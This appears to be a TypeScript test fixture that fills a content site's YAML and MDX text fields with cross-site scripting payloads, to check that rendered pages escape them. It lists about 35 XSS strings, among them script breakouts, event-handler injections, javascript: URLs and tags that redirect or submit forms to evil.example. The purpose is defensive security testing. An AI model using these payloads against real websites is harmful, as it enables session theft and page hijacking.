import { globSync, readFileSync } from 'node:fs'
import { sep } from 'node:path'
import { type FieldNode, formTree } from '../../src/domain/form-tree.ts'
import { classify, type Kind, kinds, pathOf } from '../../src/domain/kinds.ts'
import { buildLedger, type Source } from '../../src/domain/ledger.ts'
import { measuresSchema } from '../../src/domain/measures.ts'
import { schemaOf } from '../../src/domain/schemas.ts'
import { isMapping, type Tree } from '../../src/domain/tree.ts'
import { demandSchemaOf } from '../../src/node/folder-findings.ts'
import { readContentFile } from '../../src/yaml/content-file.ts'
import { afterFrontMatter, frontMatter } from '../../src/yaml/front-matter.ts'
import { readYaml } from '../../src/yaml/read.ts'
import { writeYaml } from '../../src/yaml/write.ts'

/**
 * The samples with an attack in every text that a stranger or an officer may write: entries, stories, the
 * year's texts, districts, settings. With `ATTACKS.map(harmless)` they have harmless signs in the very same
 * places, so that any other element or attribute on a page can only come from an attack.
 */

/** After https://portswigger.net/web-security/cross-site-scripting/cheat-sheet; short ones fit short fields. */
export const ATTACKS: readonly string[] = [
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</script><script>alert(1)</script>',
  '<!--',
  '-->',
  ']]><script>alert(1)</script>',
  '<![CDATA[x]]>',
  '{alert(1)}',
  '${alert(1)}',
  '`${alert(1)}`',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "{{constructor.constructor('alert(1)')()}}",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style></noscript></template><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  ' x=y onclick=alert(1) ',
  '"}]}</script><script>alert(1)</script>',
  '\\u003c/script\\u003e\\"',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '<b>x</b>',
  '<Fragment set:html={x}>',
  '<%= x %><?php x ?>',
  '?></item><item>',
]

/**
 * Every sign that means something to some language becomes a line that means nothing to any, each another.
 * Commas, strokes and semicolons stay: they are harmless alone, and a semicolon parts fields of research.
 */
export const harmless = (text: string): string =>
  text.replace(/[!-+\-.:<-@[-`{-~]/g, (sign) => String.fromCharCode(0x2500 + sign.charCodeAt(0)))

/** What ties files together, or steers the site; a text there is refused, or names another thing. */
const STEERING = new Set(
  [
    'slug code district exampleDistrict cycle clause picture accounts privatePart year domain areaCode owners.bureau owners.districts',
    // Of measures: the notice's own words.
    '[].text',
    'forge.kind forge.api forge.owner forge.repository forge.branch recipients[].key recipients[].district private.enterprise.name private.demand private.expert.id',
  ].flatMap((words) => words.split(' ')),
)

/** A list of mappings is a file's whole tree, as of districts. */
const isSteering = ({ key, path }: FieldNode) =>
  [...STEERING].some((word) => {
    return path === word || key === word || path.replace(/^\[\]\./, '').startsWith(`${word}[]`)
  })

/** Settings that the samples leave blank, filled in. */
const BLANK = { domain: 'kjfz.example.gov.cn', siteIdCode: '虚构', icp: '虚构', policeFiling: '虚构' }

/** The file with these attacks in it; undefined for a file that holds no such text. */
function hostileFile(file: string, attacks: readonly string[]): string | undefined {
  const { kind } = classify(file)
  const schema = kind && schemaOf(kind)
  if (!schema) return undefined
  const row: Kind = kinds[kind]
  const text = readFileSync(file, 'utf8')
  const { tree } = readYaml(row.read === 'yaml' ? text : frontMatter(text), file)
  const root = formTree(schema)
  let next = numberOf(file)
  const yaml = writeYaml(
    attacked(filledIn(tree!, kind), root, () => attacks[next++ % attacks.length]!),
    root,
  )
  return row.read === 'yaml' ? yaml : `---\n${yaml}---\n${afterFrontMatter(text).trimStart()}`
}

/** All files of the samples that have texts, or those wanted, by path; `attacks` one after the other. */
export function hostileFiles(
  attacks: readonly string[],
  isWanted: (file: string) => boolean = () => true,
): Record<string, string> {
  const files = globSync('content/**/*.{yaml,mdx}')
    .map((path) => path.split(sep).join('/'))
    .filter(isWanted)
  const hostile: Record<string, string> = Object.fromEntries(
    files.flatMap((file) => {
      const text = hostileFile(file, attacks)
      return text === undefined ? [] : [[file, text]]
    }),
  )
  for (const file of files.filter((file) => classify(file).kind === 'measures')) {
    hostile[file] = withTitleOf(hostile[file.replace('measures.yaml', 'notice.mdx')]!, hostile[file]!)
  }
  // The generated file names the city.
  const read = Object.entries(hostile).map(([file, text]) => readContentFile(file, Buffer.from(text)))
  return { ...hostile, [pathOf('demandJsonSchema', {})]: demandSchemaOf(buildLedger(read as Source[]))! }
}

/** Measures begin with the notice's title word for word. */
function withTitleOf(notice: string, measures: string): string {
  const { tree: matter } = readYaml(frontMatter(notice), '')
  const { tree } = readYaml(measures, '')
  if (!isMapping(matter) || !Array.isArray(tree) || !isMapping(tree[0])) throw new Error('No title')
  return writeYaml([{ ...tree[0], text: matter['title']! }, ...tree.slice(1)], formTree(measuresSchema))
}

/** So that not every file begins with the same attack. */
const numberOf = (file: string) => [...file].reduce((sum, sign) => sum + sign.charCodeAt(0), 0)

function filledIn(tree: Tree, kind: string | undefined): Tree {
  if (kind !== 'site' || !isMapping(tree)) return tree
  return { ...tree, ...BLANK }
}

/** As much of a text stays as tells two enterprises apart. */
const LEFT = 12

/** Each text gets the next attack before it that fits; its end is cut off where it grows too long. */
function attacked(tree: Tree, node: FieldNode | undefined, next: () => string): Tree {
  if (Array.isArray(tree)) return tree.map((item) => attacked(item, node?.children[0], next))
  if (isMapping(tree)) {
    const entries = Object.entries(tree).map(([key, value]) => {
      const child = node?.children.find((one) => one.key === key)
      return [key, attacked(value, child, next)] as const
    })
    return Object.fromEntries(entries)
  }
  const spec = node?.spec
  if (!node || tree === '' || spec?.kind !== 'text' || spec.format || isSteering(node)) return tree
  let attack = next()
  const fits = (text: string) =>
    [...text].length + Math.min(LEFT, [...tree].length) <= spec.max &&
    (spec.lines === 'many' || !text.includes('\n'))
  for (let more = 0; !fits(attack) && more < ATTACKS.length; more++) attack = next()
  return [...`${attack}${tree}`].slice(0, spec.max).join('')
}
